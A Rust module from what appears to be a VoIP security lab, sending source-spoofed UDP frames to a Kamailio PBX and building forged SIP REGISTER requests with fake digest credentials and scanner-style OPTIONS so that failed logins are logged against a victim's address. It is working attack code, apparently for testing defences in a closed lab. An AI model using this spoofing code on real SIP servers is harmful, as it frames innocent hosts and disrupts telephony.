//! A forger writing someone else's address as the source: raw frames from the lab's attacker
//! namespace on its bridge port, every checksum valid, to the PBX on 5060. What UDP lets
//! anyone on the path (or anyone whose ISP does not filter sources) do to a SIP trunk.
use crate::{
    voip::{VoipLab, PBX, PBX_IF},
    wire::Wire,
};

/// Sends `payloads` to Kamailio on 5060 with `src` as their source, from the attacker's
/// port of the lab's bridge. Returns how many frames went.
pub fn send(lab: &VoipLab, src: &str, payloads: &[String]) -> anyhow::Result<usize> {
    let wire = Wire::between(&lab.attacker, "atk0", &lab.pbx, PBX_IF)?;
    let (src, dst) = (src.parse()?, PBX.parse()?);
    let frames: Vec<Vec<u8>> = payloads
        .iter()
        .map(|p| wire.udp(src, dst, 5060, p.as_bytes()))
        .collect();
    wire.send(&frames)?;
    Ok(frames.len())
}

/// What a forger sends "from" `victim`: `n` REGISTERs for 1001 without credentials, `n` with
/// made-up credentials (a nonce Kamailio never issued: it answers each with a 401 and logs a
/// wrong password "from" the victim), and `n` OPTIONS with a scanner User-Agent; each request
/// its own transaction.
pub fn against(victim: &str, n: usize) -> Vec<String> {
    let mut out = Vec::new();
    for i in 0..n {
        let head = |method: &str, cseq: usize, ua: &str| {
            format!(
                "{method} sip:{PBX} SIP/2.0\r\nVia: SIP/2.0/UDP {victim}:5060;branch=z9hG4bK-f{i}-{cseq}\r\n\
                 From: <sip:1001@{PBX}>;tag=f{i}\r\nTo: <sip:1001@{PBX}>\r\n\
                 Call-ID: forged-{i}-{cseq}@{victim}\r\nCSeq: {cseq} {method}\r\n\
                 Contact: <sip:1001@{victim}:5060>\r\nMax-Forwards: 70\r\nUser-Agent: {ua}\r\n"
            )
        };
        out.push(format!(
            "{}Content-Length: 0\r\n\r\n",
            head("REGISTER", 1, "Yealink SIP-T46S")
        ));
        out.push(format!(
            "{}Authorization: Digest username=\"1001\", realm=\"{PBX}\", nonce=\"made-up-{i}\", \
             uri=\"sip:{PBX}\", response=\"{i:032x}\", algorithm=MD5\r\nContent-Length: 0\r\n\r\n",
            head("REGISTER", 2, "Yealink SIP-T46S")
        ));
        out.push(format!(
            "{}Content-Length: 0\r\n\r\n",
            head("OPTIONS", 3, "friendly-scanner")
        ));
    }
    out
}
